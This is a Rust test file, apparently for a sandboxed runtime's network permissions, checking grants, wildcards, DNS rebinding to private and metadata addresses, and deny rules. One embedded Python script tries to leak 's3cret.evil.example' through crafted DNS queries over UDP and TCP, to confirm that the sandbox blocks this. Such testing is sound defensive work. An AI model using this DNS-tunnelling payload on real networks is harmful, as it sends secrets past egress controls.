//! Names: granted ones are found, of all others nobody is asked, and wherever a name leads, the policy is asked again.

use serde_json::json;

use super::internet::{Internet, METADATA, OTHER_PUBLIC, PRIVATE, PUBLIC, PUBLIC_V6};

#[test]
fn a_granted_name_is_found_and_no_other_is_asked_for() {
    let internet = Internet::with(&json!({ "a.example": [[PUBLIC]], "b.example": [[OTHER_PUBLIC]] }));
    let words = ["get.mjs", "http://a.example/x", "http://b.example/", "http://A.Example./"];
    let outside = internet.outside(&words);
    assert_eq!(outside[1], "93.184.216.35 b.example /");
    let inside = internet.inside(&["--allow-net=a.example:80"], &words);
    assert_eq!(inside.lines(), ["93.184.216.34 a.example /x", "failed", &outside[2]]);
    assert_eq!(inside.questions, ["a.example"]);
}

#[test]
fn a_star_is_what_is_below_the_name() {
    let names = ["x.b.example", "x.y.b.example", "b.example", "evilb.example", "b.example.evil"];
    let zone: serde_json::Map<_, _> = names.iter().map(|name| ((*name).to_owned(), json!([[PUBLIC]]))).collect();
    let internet = Internet::with(&zone.into());
    let words: Vec<String> = names.iter().map(|name| format!("http://{name}/")).collect();
    let words: Vec<&str> = ["get.mjs"].into_iter().chain(words.iter().map(String::as_str)).collect();
    assert!(internet.outside(&words).iter().all(|line| line.starts_with(PUBLIC)));
    let inside = internet.inside(&["--allow-net=*.b.example:80"], &words);
    let reached: Vec<bool> = inside.lines().iter().map(|line| line.starts_with(PUBLIC)).collect();
    assert_eq!(reached, [true, true, false, false, false]);
    assert_eq!(inside.questions, ["x.b.example", "x.y.b.example"]);
}

#[test]
fn unusual_names() {
    let long = format!("{}.{}.{}.{}", "a".repeat(63), "b".repeat(63), "c".repeat(63), "d".repeat(61));
    assert_eq!(long.len(), 253);
    let names = [&long, "_service.a.example", "xn--bcher-kva.example", "1.2.a.example"];
    let zone: serde_json::Map<_, _> = names.iter().map(|name| ((*name).to_owned(), json!([[PUBLIC]]))).collect();
    let internet = Internet::with(&zone.into());
    let grants: Vec<String> = names.iter().map(|name| format!("--allow-net={name}:80")).collect();
    let grants: Vec<&str> = grants.iter().map(String::as_str).collect();
    let too_long = format!("http://{long}e/");
    let words = [
        "get.mjs",
        &format!("http://{long}/"),
        "http://_service.a.example/",
        "http://bücher.example/",
        "http://1.2.a.example/",
        &too_long,
    ];
    let outside = internet.outside(&words);
    assert_eq!(outside.iter().filter(|line| line.starts_with(PUBLIC)).count(), 4, "{outside:#?}");
    let inside = internet.inside(&grants, &words);
    assert_eq!(inside.lines(), outside);
}

/// Looks a name up twice and asks each address that it gets.
const TWICE: &str = r#"
import socket, sys
def ask(address):
    try:
        with socket.create_connection(address[:2], timeout=10) as connection:
            connection.sendall(b"GET / HTTP/1.0\r\nhost: x\r\n\r\n")
            text = b"".join(iter(lambda: connection.recv(4096), b"")).decode()
            return text.split("\r\n\r\n")[1].split()[0]
    except OSError as error:
        return type(error).__name__
for turn in range(2):
    found = socket.getaddrinfo(sys.argv[1], 80, type=socket.SOCK_STREAM)
    print(*[ask(address) for *_, address in found])
"#;

#[test]
fn a_name_that_is_pointed_elsewhere_reaches_nothing_there() {
    for address in ["127.0.0.1", PRIVATE, METADATA, "fd00::5"] {
        let zone = json!({ "rebind.example": [[PUBLIC], [address]] });
        let internet = Internet::with(&zone).file("twice.py", TWICE);
        assert_eq!(internet.python_outside(&["twice.py", "rebind.example"]), [PUBLIC, address]);
        let inside = internet.python_inside(&["--allow-net=rebind.example:80"], &["twice.py", "rebind.example"]);
        assert_eq!(inside.lines(), [PUBLIC, "PermissionError"], "{address}");
        assert_eq!(inside.refusals(), [("rebind.example:80", "reserved")], "{address}");
    }
}

#[test]
fn of_several_addresses_each_is_judged_by_itself() {
    let zone = json!({ "many.example": [[PUBLIC, PRIVATE, OTHER_PUBLIC, PUBLIC_V6]] });
    let internet = Internet::with(&zone).file("twice.py", TWICE);
    let outside = internet.python_outside(&["twice.py", "many.example"]);
    assert_eq!(outside[0].split(' ').count(), 4, "{outside:?}");
    let inside = internet.python_inside(&["--allow-net=many.example:80"], &["twice.py", "many.example"]);
    let mut answers: Vec<&str> = inside.lines()[0].split(' ').collect();
    answers.sort_unstable();
    assert_eq!(answers, [PUBLIC_V6, PUBLIC, OTHER_PUBLIC, "PermissionError"]);
    assert_eq!(inside.refusals(), [("many.example:80", "reserved")]);
}

#[test]
fn an_address_that_nobody_has_is_followed_by_the_next() {
    let zone = json!({ "many.example": [["93.184.216.99", PUBLIC]], "six.example": [[PUBLIC_V6]] });
    let internet = Internet::with(&zone);
    let words = ["get.mjs", "http://many.example/", "http://six.example/"];
    let outside = internet.outside(&words);
    assert_eq!(outside, ["93.184.216.34 many.example /", "2606:4700::1 six.example /"]);
    let inside = internet.inside(&["--allow-net=many.example:80,six.example:80"], &words);
    assert_eq!(inside.lines(), outside);
}

#[test]
fn a_range_grants_and_denies_what_a_name_leads_to() {
    let zone = json!({ "inner.example": [[PRIVATE]], "a.example": [[PUBLIC]], "b.example": [[OTHER_PUBLIC]] });
    let internet = Internet::with(&zone);
    let words = ["get.mjs", "http://inner.example/", "http://a.example/", "http://b.example/", "http://10.0.0.5/"];
    let outside = internet.outside(&words);
    assert!(!outside.iter().any(|line| line == "failed"), "{outside:?}");
    let grants = "--allow-net=inner.example:80,a.example:80,b.example:80,10.0.0.0/8:80";
    let inside = internet.inside(&[grants, "--deny-net=93.184.216.34/32"], &words);
    assert_eq!(inside.lines(), [&outside[0], "failed", &outside[2], &outside[3]]);
    let rule = "deny.net \"93.184.216.34/32\" (--deny-net=93.184.216.34/32)";
    assert_eq!(inside.refusals(), [("a.example:80", rule)]);
}

/// Asks in all ways that carry a name away: the system's resolver, and messages of its own, well made and not.
const TUNNEL: &str = r#"
import socket, struct
def message(name, kind, flags=0x0100, extra=b""):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"
    return struct.pack(">6H", 7, flags, 1, 0, 0, 1 if extra else 0) + labels + struct.pack(">2H", kind, 1) + extra
secret = b"s3cret.evil.example"
kinds = [1, 28, 5, 6, 2, 12, 15, 16, 33, 35, 41, 64, 65, 251, 252, 255, 257]
option = b"\0" + struct.pack(">2HIH", 41, 4096, 0, 24) + struct.pack(">2H", 8, 20) + b"s3cret.client.subnet"
messages = [message(name, kind) for name in (secret, b"a.example", b"77.216.184.93.in-addr.arpa") for kind in kinds]
messages += [message(secret, 1, flags=opcode << 11) for opcode in range(16)]
messages += [message(b"a.example", 1, extra=option), message(b"s3cret\0.a.example", 1), message(b"s3cret..a.example", 1)]
messages += [b"", b"\0", message(secret, 1)[:-3], message(secret, 1) + b"trailing"]
answers = 0
for host in ["127.0.0.1", "93.184.216.34", "10.0.0.5"]:
    for text in messages:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            # An answer is there within a moment or never.
            asking.settimeout(0.5 if host == "127.0.0.1" and len(text) > 2 else 0.01)
            try:
                asking.sendto(text, (host, 53))
                answers += len(asking.recv(2048)) > 0
            except OSError:
                pass
for name in [secret.decode(), "s3cret", "s3cret.a.example", "S3CRET.evil.example."]:
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
with socket.create_connection(("127.0.0.1", 53), 5) as stream:
    for text in messages[:40]:
        stream.sendall(struct.pack(">H", len(text)) + text)
        length = struct.unpack(">H", stream.recv(2, socket.MSG_WAITALL))[0]
        answers += len(stream.recv(length, socket.MSG_WAITALL)) == length
print("answers" if answers > 80 else answers)
"#;

#[test]
fn a_question_carries_nothing_away() {
    let zone = json!({ "a.example": [[PUBLIC]] });
    let internet = Internet::with(&zone).file("tunnel.py", TUNNEL).file("lookup.py", LOOKUP);
    internet.python_outside(&["lookup.py"]);
    assert_eq!(internet.questions(), ["s3cret.evil.example"]);
    let inside = internet.python_inside(&["--allow-net=a.example:80"], &["tunnel.py"]);
    assert_eq!(inside.lines(), ["answers"], "{}", inside.envelope.text("/stderr"));
    assert_eq!(inside.questions, ["a.example"]);
}

/// The control: outside, the question goes to the name server.
const LOOKUP: &str = r#"
import socket
try: socket.getaddrinfo("s3cret.evil.example", 80)
except OSError: pass
"#;

#[test]
fn a_program_is_told_why_a_name_that_is_granted_leads_nowhere() {
    let zone = json!({ "home.example": [[PRIVATE]] });
    let internet = Internet::with(&zone).file("home.mjs", "export default () => fetch('http://home.example/');");
    let outside = internet.outside(&["get.mjs", "http://home.example/"]);
    assert_eq!(outside, [format!("{PRIVATE} home.example /")]);
    let inside = internet.inside(&["--allow-net=home.example:80"], &["home.mjs"]);
    let told = ["permission", "resource", "rule"].map(|field| inside.envelope.text(&format!("/error/{field}")));
    assert_eq!(told, ["net", "home.example:80", "reserved"], "{}", inside.envelope.json);
    let why =
        "connecting to \"home.example:80\" is not allowed: the name leads to an address that is granted by itself";
    assert!(inside.envelope.text("/error/message").contains(why), "{}", inside.envelope.json);
}

/// Looks a name up in several ways.
const LOOK_UP: &str = r#"
import dns from "node:dns/promises";
const [name] = process.argv.slice(2);
const ways = [
  async () => (await dns.lookup(name)).address, async () => (await dns.resolve4(name))[0],
  async () => (await new dns.Resolver().resolve4(name))[0], async () => (await Bun.dns.lookup(name))[0].address,
];
for (const way of ways) console.log(await way().catch((error) => error.name));
"#;

#[test]
fn programs_look_up_names_of_which_some_port_is_granted() {
    let zone = json!({ "a.example": [[PUBLIC]], "b.example": [[OTHER_PUBLIC]] });
    let internet = Internet::with(&zone).file("look.mjs", LOOK_UP);
    assert_eq!(internet.outside(&["look.mjs", "b.example"]), [OTHER_PUBLIC; 4]);
    let inside = |name| internet.inside(&["--allow-net=a.example:8080"], &["look.mjs", name]);
    assert_eq!(inside("a.example").lines(), ["198.18.0.1"; 4]);
    assert_eq!(inside("b.example").lines(), ["SecurityError"; 4]);
}
